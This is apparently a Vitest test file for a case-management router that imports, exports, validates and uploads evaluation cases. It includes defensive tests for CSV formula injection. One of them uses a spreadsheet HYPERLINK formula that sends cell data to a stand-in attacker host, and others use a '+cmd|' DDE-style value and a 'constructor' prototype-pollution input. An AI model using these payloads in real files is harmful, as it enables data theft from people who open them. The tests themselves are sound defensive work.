import { afterAll, describe, expect, it } from 'vitest';
import type { JudgeCase } from '../../src-shared/judge/judge-case';
import type { CaseImportPreview, CaseImportResult } from '../../src-shared/judge/judge-case-import';
import type { StoredSet } from '../../src-shared/judge/question-set';
import { uploadText } from '../core/judge/cases/upload-text';
import { routerCalls, testServices } from './services.test-helper';

const t = testServices();
const { send, call } = routerCalls(t.services);
afterAll(() => t.close());

describe('judge.cases routes', () => {
  it('add, list, count, edit, duplicate, delete, import and export through the router', async () => {
    const set = await call<StoredSet>('judge.sets.save', {
      set: {
        name: 'Routes',
        questions: [
          {
            name: 'tone',
            type: 'choice',
            instructions: 'Tone?',
            options: [
              { name: 'yes', description: 'fine' },
              { name: 'no', description: 'not fine' },
            ],
          },
        ],
      },
    });
    const a = await call<JudgeCase>('judge.cases.add', {
      setId: set.id,
      state: { mode: 'text', text: 'Hello' },
      expected: { tone: 0 },
    });
    expect(a).toMatchObject({ state: 'Hello', expected: { tone: 0 }, note: '', position: 0 });
    const copy = await call<JudgeCase>('judge.cases.duplicate', { id: a.id });
    const edited = await call<JudgeCase>('judge.cases.edit', {
      id: copy.id,
      state: { mode: 'list', text: 'x\ny' },
      expected: {},
      note: 'copy',
    });
    expect(edited).toMatchObject({ state: ['x', 'y'], note: 'copy', position: 1 });
    expect(await call('judge.cases.count', { setId: set.id })).toBe(2);
    expect(await call('judge.cases.count', { setId: set.id, filter: 'copy' })).toBe(1);

    const text = 'state,tone\nFrom file,no\nBad,maybe\n';
    const uploadId = await uploadText(call, text, 'cases.csv');
    const preview = await call<CaseImportPreview>('judge.cases.importPreview', { setId: set.id, uploadId });
    expect(preview.problems.map((p) => p.message)).toEqual([
      "line 3, expected `tone`: 'maybe' is not one of the options yes, no",
    ]);
    expect(await call('judge.cases.count', { setId: set.id })).toBe(2);
    const result = await call<CaseImportResult>('judge.cases.importConfirm', {
      setId: set.id,
      uploadId,
      mapping: preview.mapping,
    });
    expect(result).toMatchObject({ added: 1, skippedCount: 1, skipped: [{ line: 3 }] });
    // Imported, the file is gone from main.
    expect(t.services.caseUploads.open).toBe(0);
    const page = await call<JudgeCase[]>('judge.cases.list', { setId: set.id, offset: 1, limit: 5 });
    expect(page.map((c) => c.state)).toEqual([['x', 'y'], 'From file']);

    expect(await call('judge.cases.export', { setId: set.id, format: 'csv' })).toMatch(/Routes\.cases\.csv$/);
    expect(t.saved).toContain('Routes.cases.csv');
    expect(await call('judge.cases.delete', { ids: [a.id, copy.id] })).toBe(2);
    expect(await call('judge.cases.count', { setId: set.id })).toBe(1);
  });

  it('refuses inputs past their limits, naming the field and the limit', async () => {
    expect(
      await send('judge.cases.upload.start', { name: 'big.csv', size: 50 * 1024 * 1024 + 1 }),
    ).toMatchObject({
      ok: false,
      error: {
        code: 'invalid_input',
        message: 'size: must be at most 50 MB (the file is too large to import)',
      },
    });
    expect(await send('judge.cases.list', { setId: 's', offset: 0, limit: 501 })).toMatchObject({
      ok: false,
      error: { message: 'limit: must be at most 500' },
    });
    expect(
      await send('judge.cases.add', {
        setId: 's',
        state: { mode: 'text', text: 'x' },
        expected: { tone: 1 },
        note: 'n'.repeat(2_001),
      }),
    ).toMatchObject({ ok: false, error: { message: 'note: must be at most 2,000 characters' } });
    expect(
      await send('judge.cases.add', {
        setId: 's',
        state: { mode: 'text', text: 'x' },
        expected: JSON.parse('{"constructor": 1}') as unknown,
      }),
    ).toMatchObject({ ok: false, error: { code: 'invalid_input' } });
    const many = Object.fromEntries(Array.from({ length: 51 }, (_, i) => [`q${i}`, true]));
    expect(
      await send('judge.cases.add', { setId: 's', state: { mode: 'text', text: 'x' }, expected: many }),
    ).toMatchObject({ ok: false, error: { message: 'expected: must have at most 50 answers' } });
    expect(await send('judge.cases.count', { setId: 'missing' })).toMatchObject({
      ok: false,
      error: { code: 'not_found' },
    });
  });

  it('takes a file only in order and within the size it announced, and reads it only once all of it came', async () => {
    const b64 = (text: string) => Buffer.from(text).toString('base64');
    const { uploadId } = await call<{ uploadId: string }>('judge.cases.upload.start', {
      name: 'x.csv',
      size: 11,
    });
    const chunk = (index: number, data: string) =>
      send('judge.cases.upload.chunk', { uploadId, index, data });
    expect(await chunk(1, b64('state\n'))).toMatchObject({
      ok: false,
      error: { message: 'index: must be 0: chunks are sent in order, from 0' },
    });
    // A short chunk is the last one, so it must end the file exactly.
    expect(await chunk(0, b64('state\n'))).toMatchObject({
      ok: false,
      error: { message: 'data: must hold 524,288 bytes (every chunk but the last)' },
    });
    expect(await chunk(0, b64('state\nhello, too long'))).toMatchObject({
      ok: false,
      error: { message: 'data: goes past the 11 bytes the upload started with' },
    });
    expect(await send('judge.cases.importPreview', { setId: 's', uploadId })).toMatchObject({
      ok: false,
      error: { message: 'uploadId: the file has not all arrived (0 of 11 bytes)' },
    });
    expect(await chunk(0, 'not base64!')).toMatchObject({
      ok: false,
      error: { message: 'data: must be base64' },
    });
    expect(await chunk(0, b64('state\nhello'))).toMatchObject({ ok: true, data: { received: 11 } });
    expect(await call('judge.cases.upload.discard', { uploadId })).toBe(true);
    expect(await send('judge.cases.importPreview', { setId: 's', uploadId })).toMatchObject({
      ok: false,
      error: { code: 'not_found' },
    });
  });

  it('drops a file whose page went away, and keeps at most four at once', async () => {
    const uploads = t.services.caseUploads;
    const before = uploads.open;
    const page = new AbortController();
    await uploads.start({ name: 'a.csv', size: 1 }, page.signal);
    expect(uploads.open).toBe(before + 1);
    page.abort();
    expect(uploads.open).toBe(before);
    const ids = [];
    for (let i = 0; i < 6; i++) ids.push((await uploads.start({ name: `${i}.csv`, size: 1 })).uploadId);
    expect(uploads.open).toBe(4);
    expect(uploads.discard(ids[0])).toBe(false);
    expect(uploads.discard(ids[5])).toBe(true);
  });

  it('neutralises formula cells in a CSV export unless raw CSV is asked for, and checks the choice', async () => {
    const set = await call<StoredSet>('judge.sets.save', {
      set: { name: 'Formulas', questions: [{ name: 'ok', type: 'noul', instructions: 'Fine?' }] },
    });
    const state = '=HYPERLINK("http://evil.example/?x="&A1,"open")';
    await call('judge.cases.add', { setId: set.id, state: { mode: 'text', text: state }, expected: {} });
    const exported = async (extra: Record<string, unknown>) => {
      await call('judge.cases.export', { setId: set.id, format: 'csv', ...extra });
      return t.savedText.get('Formulas.cases.csv')!.split('\r\n')[1];
    };
    expect(await exported({})).toBe(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""open"")",text,,`);
    expect(await exported({ rawCsv: false })).toMatch(/^"'=HYPERLINK/);
    expect(await exported({ rawCsv: true })).toBe(
      `"=HYPERLINK(""http://evil.example/?x=""&A1,""open"")",text,,`,
    );
    // JSON Lines is always as it is.
    await call('judge.cases.export', { setId: set.id, format: 'jsonl' });
    expect(JSON.parse(t.savedText.get('Formulas.cases.jsonl')!)).toMatchObject({ state });
    expect(await send('judge.cases.export', { setId: set.id, format: 'csv', rawCsv: 'yes' })).toMatchObject({
      ok: false,
      error: { code: 'invalid_input', message: 'rawCsv: must be true or false' },
    });
  });

  it('imports a default CSV export as it was exported: the apostrophes before formulas are read away', async () => {
    const set = await call<StoredSet>('judge.sets.save', {
      set: { name: 'RoundTrip', questions: [{ name: 'ok', type: 'noul', instructions: 'Fine?' }] },
    });
    const states = ['=SUM(A1:A3)', '+cmd|x', '@me', '-2+3', '-0.5', "'quoted already", 'plain'];
    for (const text of states)
      await call('judge.cases.add', { setId: set.id, state: { mode: 'text', text }, expected: {} });
    await call('judge.cases.export', { setId: set.id, format: 'csv' });
    const exported = t.savedText.get('RoundTrip.cases.csv')!;
    expect(exported).toContain("'=SUM(A1:A3)");
    const target = await call<StoredSet>('judge.sets.save', {
      set: { name: 'Again', questions: [{ name: 'ok', type: 'noul', instructions: 'Fine?' }] },
    });
    const uploadId = await uploadText(call, exported, 'RoundTrip.cases.csv');
    const preview = await call<CaseImportPreview>('judge.cases.importPreview', {
      setId: target.id,
      uploadId,
    });
    await call('judge.cases.importConfirm', { setId: target.id, uploadId, mapping: preview.mapping });
    const back = await call<JudgeCase[]>('judge.cases.list', { setId: target.id, offset: 0, limit: 50 });
    expect(back.map((c) => c.state)).toEqual(states);
  });

  it('says a case state nested too deeply is, by row, instead of overflowing the stack', async () => {
    const set = await call<StoredSet>('judge.sets.save', {
      set: { name: 'Deep', questions: [{ name: 'ok', type: 'noul', instructions: 'Fine?' }] },
    });
    const levels = 100_000;
    const deep = '{"a":'.repeat(levels) + '1' + '}'.repeat(levels);
    const fine = '{"a":'.repeat(99) + '1' + '}'.repeat(99);
    const jsonl = `{"state":${deep},"ok":true}\n{"state":${fine},"ok":false}\n`;
    const preview = await call<CaseImportPreview>('judge.cases.importPreview', {
      setId: set.id,
      uploadId: await uploadText(call, jsonl, 'deep.jsonl'),
      format: 'jsonl',
    });
    expect(preview.problems.map((p) => p.message)).toEqual([
      'line 1, state: is nested deeper than 100 levels',
    ]);
    expect(preview.validCount).toBe(1);
    const csv = `state,state_type,ok\n"${deep.replace(/"/g, '""')}",json,true\n`;
    const fromCsv = await call<CaseImportPreview>('judge.cases.importPreview', {
      setId: set.id,
      uploadId: await uploadText(call, csv, 'deep.csv'),
      format: 'csv',
    });
    expect(fromCsv.problems.map((p) => p.message)).toEqual([
      'line 2, state: is nested deeper than 100 levels',
    ]);
  });
});
